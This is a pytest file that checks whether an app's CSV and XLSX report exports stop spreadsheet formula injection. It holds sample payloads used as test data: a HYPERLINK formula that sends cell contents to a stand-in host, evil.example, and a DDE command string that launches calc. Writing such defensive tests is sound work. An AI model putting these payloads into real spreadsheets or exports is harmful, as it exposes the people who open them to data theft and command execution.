"""Exports a manager opens in a spreadsheet: text that users typed never runs as a formula there, and the
figures stay figures (CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree

from openpyxl import load_workbook
from sqlalchemy.orm import Session

from backend.reports.export import to_csv
from backend.reports.service import Column, Table
from tests.kpi.helpers import actor, customer, deal
from tests.reports.test_reports import NOW

EXFILTRATE = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
RUN_CALC = "+cmd|' /C calc'!A0"
SPREADSHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def cells(response: Any) -> list[list[str]]:
    """The CSV as a spreadsheet reads it: rows of cells."""
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_customer_named_like_a_formula_is_text_in_the_csv_and_its_coordinates_stay_numbers(org, sign_in):
    lead = sign_in("lead1@example.com")
    created = lead.post(
        "/api/v1/customers",
        json={"name": EXFILTRATE, "owner_id": org.user("rep1"), "city": "@SUM(1+1)", "lat": 40.7, "lon": -74.25},
    )
    assert created.status_code == 201, created.text

    rows = cells(lead.get("/api/v1/reports/regions", params={"format": "csv", "table": "points"}))
    assert rows[1:] == [[created.json()["id"], "'" + EXFILTRATE, "'@SUM(1+1)", "40.7", "-74.25"]]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


def test_a_lost_reason_like_a_command_is_text_in_the_funnel_csv(engine, org, sign_in):
    with Session(engine, expire_on_commit=False) as session:
        rep1 = actor(session, org.user("rep1"))
        shop = customer(session, rep1, NOW, "-2+3+cmd|' /C calc'!A0")
        deal(session, rep1, shop, "1600", "lost", "2026-11-07T03:00:00+00:00", NOW, RUN_CALC)
        deal(session, rep1, shop, "250.50", "lost", "2026-11-08T03:00:00+00:00", NOW, "\tTab first")
        session.commit()
    lead = sign_in("lead1@example.com")

    rows = cells(
        lead.get("/api/v1/reports/funnel", params={"format": "csv", "table": "reasons", "period": "2026-11"})
    )
    reasons = {row[1]: row for row in rows[1:]}
    assert reasons["'" + RUN_CALC][2:] == ["1", "1600.00"]
    assert reasons["'\tTab first"][2:] == ["1", "250.50"]


def test_the_xlsx_keeps_such_a_name_as_a_text_cell_never_a_formula(org, sign_in):
    lead = sign_in("lead1@example.com")
    created = lead.post(
        "/api/v1/customers", json={"name": EXFILTRATE, "owner_id": org.user("rep1"), "lat": 31.2, "lon": -121.5}
    )
    assert created.status_code == 201, created.text

    response = lead.get("/api/v1/reports/regions", params={"format": "xlsx"})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):  # no cell of any sheet is a formula
                assert ElementTree.fromstring(book.read(name)).find(f".//{SPREADSHEET}f") is None
    points = load_workbook(io.BytesIO(response.content))["Customer locations"]
    # Title, header, then the customer: the name a string shown as typed, the longitude a number.
    name, longitude = points.cell(3, 2), points.cell(3, 5)
    assert (name.value, name.data_type) == (EXFILTRATE, "s")
    assert (longitude.value, longitude.data_type) == (-121.5, "n")


def test_numbers_stay_numbers_and_every_text_that_starts_like_a_formula_is_neutralised():
    table = Table(
        "t",
        "t",
        [Column("text", "Text"), Column("figure", "Figure")],
        [
            {"text": "=1+1", "figure": "-1600.00"},
            {"text": "+86 138 0013 8000", "figure": Decimal("-1600.00")},
            {"text": "-2+3", "figure": -3},
            {"text": "@SUM(A1:A2)", "figure": -0.25},
            {"text": "\r=1", "figure": 0},
            {"text": "Ningbo Tools Ltd.", "figure": None},
            {"text": "a=1", "figure": "12000.50"},
        ],
    )
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows == [
        ["Text", "Figure"],
        ["'=1+1", "-1600.00"],
        ["'+86 138 0013 8000", "-1600.00"],
        ["'-2+3", "-3"],
        ["'@SUM(A1:A2)", "-0.25"],
        ["'\r=1", "0"],
        ["Ningbo Tools Ltd.", ""],
        ["a=1", "12000.50"],
    ]
